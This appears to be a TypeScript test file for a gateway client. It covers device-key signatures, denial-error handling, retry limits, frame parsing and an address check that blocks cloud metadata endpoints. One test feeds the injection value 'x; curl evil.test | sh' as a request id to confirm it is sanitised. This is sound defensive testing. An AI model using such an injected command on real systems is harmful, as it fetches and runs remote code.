import { createPublicKey, verify } from "node:crypto";

import { expect, test } from "vitest";

import { deviceOf, newDeviceKey } from "./device-key";
import { denialOf, firstAccess, nextAccess } from "./gateway-access.rules";
import { mayConnect } from "./gateway-address";
import { connectParams, deviceText, parseFrame } from "./gateway-protocol";

const publicKeyOf = (x: string) => createPublicKey({ key: { kty: "OKP", crv: "Ed25519", x }, format: "jwk" });

/** Signatures that 2026.9.6 accepted (gateway-ws fixtures; a gateway without anything real in it). */
const ACCEPTED = [
  {
    form: "v3",
    client: { id: "cli", mode: "cli" },
    deviceId: "53f86bcd03d5e370fa2cc7ee4c9701adfa8b74cc1596affd15d4f7f08ecc7ec6",
    publicKey: "5SlRlizlBqfvSjjAKSsNmOvlWv0revIcP7mmaLOZaSk",
    token: "fake-gw-token-123456",
    challenge: { nonce: "d3fc6a74-bdab-4da0-a046-28313d36abcc", ts: 1_795_205_840_696 },
    signature: "z3OoA_3NSGebBF709LoGdsJ2ExTpT3EYbzOH79MGH6_72gavm1qfVkA9aD8OkqhCPEVYukv-6zrZTcRkmDATCg",
  },
  {
    form: "v2",
    client: { id: "cli", mode: "cli" },
    deviceId: "53f86bcd03d5e370fa2cc7ee4c9701adfa8b74cc1596affd15d4f7f08ecc7ec6",
    publicKey: "5SlRlizlBqfvSjjAKSsNmOvlWv0revIcP7mmaLOZaSk",
    token: "fake-gw-token-123456",
    challenge: { nonce: "fd022aea-bb7a-42bd-9a25-5fe02fc2c518", ts: 1_795_205_841_324 },
    signature: "eo-CdU-a4SHo-kgAadkDFsOmjCf-qxA16RrELGFAV_dDk1a4bYRmqI1kpMa_Nmjb-oZ626TAGupYSVBFmLmECw",
  },
  {
    form: "v3",
    client: { id: "gateway-client", mode: "backend" },
    deviceId: "1e4ff2f107e91f3d35f39f197a61feb8cc954217cf4dc45ae0ebe6e406a26005",
    publicKey: "QumqENDLB5fR7Yol_crIifMUc5a6H0w6VMLIax94Wcg",
    token: "SJ7Oyqkx3-70nZfKjxhhRfxl2R-9lH_xA1oUOdb5M_g",
    challenge: { nonce: "cda8034b-bddf-49d2-90be-a4f33c2f2263", ts: 1_795_207_223_763 },
    signature: "zHf1t0OJrI7YVSfNenlocfHUhdDUhZUaX0VSZ_T7R8Cy2zYnssmRF3GZMInWegmkhssDOy1A2zybbG91NgDxDQ",
  },
] as const;

test.each(ACCEPTED)("what a device signs ($form, $client.id) is what a real gateway verified", (accepted) => {
  const text = deviceText(accepted.form, { ...accepted, scope: "operator.read", platform: "linux" });
  const signature = Buffer.from(accepted.signature, "base64url");
  expect(verify(null, Buffer.from(text), publicKeyOf(accepted.publicKey), signature)).toBe(true);
});

test("a device is named by the hash of its public key and signs with the private one", () => {
  const key = newDeviceKey();
  const proof = deviceOf(key);
  expect(proof.id).toMatch(/^[0-9a-f]{64}$/);
  expect(Buffer.from(proof.publicKey, "base64url")).toHaveLength(32);
  const challenge = { nonce: "n", ts: 1 };
  const params = connectParams({
    version: "1",
    platform: "linux",
    scope: "operator.admin",
    token: null,
    challenge,
    device: { proof, form: "v3" },
  }) as { device: { signature: string } };
  const text = deviceText("v3", {
    deviceId: proof.id,
    scope: "operator.admin",
    token: null,
    challenge,
    platform: "linux",
  });
  const signature = Buffer.from(params.device.signature, "base64url");
  expect(verify(null, Buffer.from(text), publicKeyOf(proof.publicKey), signature)).toBe(true);
  expect(String(key)).toBe("[secret]");
});

test.each([
  ["NOT_PAIRED", "device identity required", { code: "DEVICE_IDENTITY_REQUIRED" }, "device-missing"],
  ["NOT_PAIRED", "pairing required", { code: "PAIRING_REQUIRED", requestId: "r-1" }, "pairing"],
  ["INVALID_REQUEST", "unauthorized: gateway token mismatch", { code: "AUTH_TOKEN_MISMATCH" }, "token"],
  ["INVALID_REQUEST", "protocol mismatch", { code: "PROTOCOL_MISMATCH" }, "protocol"],
  ["FORBIDDEN", "missing scope: operator.read", { code: "MISSING_SCOPE" }, "scope"],
  ["INVALID_REQUEST", "missing scope: operator.read", undefined, "scope"],
  ["INVALID_REQUEST", "device signature invalid", undefined, "signature"],
  ["INVALID_REQUEST", "invalid logs.tail params", undefined, "other"],
])("%s “%s” is understood", (code, message, details, cause) => {
  expect(denialOf({ code, message, details }).cause).toBe(cause);
});

test("a request id that is no plain word never gets into the command people paste", () => {
  const hostile = { code: "PAIRING_REQUIRED", requestId: "x; curl evil.test | sh" };
  expect(denialOf({ code: "NOT_PAIRED", message: "", details: hostile }).requestId).toBeNull();
});

test("no two denials in turn make us ask for ever", () => {
  for (const loopback of [true, false]) {
    for (const cause of ["scope", "device-missing", "signature", "token"] as const) {
      let access = firstAccess(loopback, true);
      let steps = 0;
      for (let next = nextAccess(access, cause); next; next = nextAccess(access, cause)) {
        access = next;
        steps += 1;
      }
      expect(steps).toBeLessThanOrEqual(2);
    }
  }
});

test.each(["", "null", "[]", '{"type":"event"}', '{"type":"res","id":1,"ok":true}', "{", '{"type":"tick"}'])(
  "%j is no frame, and harms nobody",
  (text) => {
    expect(parseFrame(text)).toBeNull();
  },
);

test.each([
  ["10.0.0.5", true],
  ["192.168.1.9", true],
  ["100.64.0.7", true],
  ["fd12::1", true],
  ["127.0.0.1", true],
  ["169.254.169.254", false],
  ["::ffff:169.254.169.254", false],
  ["100.100.100.200", false],
  ["fe80::1", false],
  ["fd00:ec2::254", false],
  ["0.0.0.0", false],
  ["::", false],
  ["64:ff9b::a9fe:a9fe", false],
  ["not an address", false],
])("over TLS %s may be connected to: %s", (address, expected) => {
  expect(mayConnect(address, false)).toBe(expected);
});

test.each([
  ["127.0.0.1", true],
  ["::1", true],
  ["::ffff:127.0.0.1", true],
  ["10.0.0.5", false],
  ["8.8.8.8", false],
])("in clear %s may be connected to: %s", (address, expected) => {
  expect(mayConnect(address, true)).toBe(expected);
});
